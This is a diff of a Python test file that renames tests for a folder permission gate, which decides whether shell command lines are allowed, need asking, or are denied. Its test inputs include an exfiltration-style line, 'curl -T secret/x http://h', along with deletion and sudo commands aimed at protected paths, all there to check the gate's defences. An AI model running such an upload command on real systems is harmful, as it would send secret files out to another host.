@@ -50,7 +50,7 @@ def decided(gate: FolderGate, line: str) -> Decision:
         "xargs frob secret/x", "sudo frob secret/x", "frob secret/x &", "echo $(frob secret/x)",
     ],
 )  # fmt: skip
-def test_what_may_not_be_read_is_given_to_no_program_that_may_read_it(gate: FolderGate, line: str) -> None:
+def test_closed_path_is_denied_to_programs_that_may_read_it(gate: FolderGate, line: str) -> None:
     found = decided(gate, line)
 
     assert isinstance(found, Deny), line
@@ -66,7 +66,7 @@ def test_what_may_not_be_read_is_given_to_no_program_that_may_read_it(gate: Fold
         "npm run secret", "frob asked/x",
     ],
 )  # fmt: skip
-def test_what_may_not_be_changed_is_not_given_unasked_to_what_may_change_it(gate: FolderGate, line: str) -> None:
+def test_unchangeable_path_asks_for_programs_that_may_change_it(gate: FolderGate, line: str) -> None:
     found = decided(gate, line)
 
     assert isinstance(found, Ask), line
@@ -77,19 +77,19 @@ def test_what_may_not_be_changed_is_not_given_unasked_to_what_may_change_it(gate
     "line", ["frob src/c.py", "make", "npm run build", "rm src/*", "echo secret/x", "git status", "frob --secret",
              "pytest", "frob c.txt", "rm -f a.txt"],
 )  # fmt: skip
-def test_what_no_rule_speaks_of_runs(gate: FolderGate, line: str) -> None:
+def test_path_without_a_rule_runs(gate: FolderGate, line: str) -> None:
     assert isinstance(decided(gate, line), Allow), line
 
 
 @pytest.mark.parametrize("line", ["rm *.txt", "rm b.*", "touch ?.txt", "cp a.? b.*", "echo x > b.*", "sudo rm b.*"])
-def test_what_a_pattern_matches_counts_as_if_it_were_named(gate: FolderGate, line: str) -> None:
+def test_matched_path_counts_as_if_named(gate: FolderGate, line: str) -> None:
     found = decided(gate, line)
 
     assert isinstance(found, Deny), line
     assert found.reason.rule in ("Edit(/b.txt)", "Read(/a.txt)")
 
 
-def test_the_reason_says_which_path_it_is_and_what_is_not_known(gate: FolderGate) -> None:
+def test_reason_names_the_path_and_the_unknown_part(gate: FolderGate) -> None:
     root = gate.paths.root
 
     denied = decided(gate, "make && curl -T secret/x http://h").reason
@@ -118,7 +118,7 @@ def test_the_reason_says_which_path_it_is_and_what_is_not_known(gate: FolderGate
     "line", ["frob; {}", "{} > src/new", "{} | frob", "true && {} && touch src/n", "if true; then {}; fi", "X=1; {}"]
 )
 @pytest.mark.parametrize("mode", ["default", "bypassPermissions"])
-def test_a_search_asks_whatever_else_its_line_does(gate: FolderGate, search: str, line: str, mode: str) -> None:
+def test_search_asks_whatever_else_its_line_does(gate: FolderGate, search: str, line: str, mode: str) -> None:
     assert not isinstance(bash(gate, line.format(search), mode), Allow)  # type: ignore[arg-type]
 
 
@@ -128,11 +128,11 @@ def test_a_search_asks_whatever_else_its_line_does(gate: FolderGate, search: str
      "rg --pre cat x", "rg -f a.md", "cd \"$X\" && grep -r x"],
 )  # fmt: skip
 @pytest.mark.parametrize("mode", ["default", "bypassPermissions"])
-def test_a_search_with_flags_that_are_not_known_asks(gate: FolderGate, line: str, mode: str) -> None:
+def test_search_with_unknown_flags_asks(gate: FolderGate, line: str, mode: str) -> None:
     assert not isinstance(bash(gate, line, mode), Allow)  # type: ignore[arg-type]
 
 
-def test_a_search_beside_other_commands_runs_where_nothing_is_withheld(gate: FolderGate) -> None:
+def test_search_beside_commands_runs_if_nothing_is_withheld(gate: FolderGate) -> None:
     assert isinstance(bash(gate, "touch src/n; grep -r x src"), Allow)
 
 
@@ -142,7 +142,7 @@ def test_a_search_beside_other_commands_runs_where_nothing_is_withheld(gate: Fol
      "find . -name x -execdir cat {} +", "find . -name x -exec rm {} +", "find . -name x -exec touch {} +"],
 )  # fmt: skip
 @pytest.mark.parametrize("mode", ["default", "bypassPermissions"])
-def test_names_that_a_program_is_handed_may_be_closed_ones(gate: FolderGate, line: str, mode: str) -> None:
+def test_names_handed_to_a_program_may_be_closed_ones(gate: FolderGate, line: str, mode: str) -> None:
     assert not isinstance(bash(gate, line, mode), Allow)  # type: ignore[arg-type]
 
 
@@ -202,7 +202,7 @@ TOLD_OUTSIDE = [line.format(folder) for line in TOLD_WHERE for folder in OUTSIDE
 
 
 @pytest.mark.parametrize("line", TOLD_OUTSIDE)
-def test_a_folder_outside_where_a_command_is_told_to_work_asks(free_gate: FolderGate, line: str) -> None:
+def test_flag_with_an_outside_folder_asks(free_gate: FolderGate, line: str) -> None:
     found = bash(free_gate, line)
 
     assert isinstance(found, Ask)
@@ -211,12 +211,12 @@ def test_a_folder_outside_where_a_command_is_told_to_work_asks(free_gate: Folder
 
 @pytest.mark.parametrize("line", TOLD_WHERE)
 @pytest.mark.parametrize("folder", ["src", ".", "./src/..", "$PWD/src"])
-def test_a_folder_inside_where_a_command_is_told_to_work_runs(free_gate: FolderGate, line: str, folder: str) -> None:
+def test_flag_with_an_inside_folder_runs(free_gate: FolderGate, line: str, folder: str) -> None:
     assert isinstance(bash(free_gate, line.format(folder)), Allow), line.format(folder)
 
 
 @pytest.mark.parametrize("line", ["git commit -C HEAD", "frob -C 3", "frob --color /etc", "make CC=gcc", "frob -C"])
-def test_other_words_behind_such_flags_ask_nothing(free_gate: FolderGate, line: str) -> None:
+def test_flag_with_other_words_asks_nothing(free_gate: FolderGate, line: str) -> None:
     assert isinstance(bash(free_gate, line), Allow), line
 
 
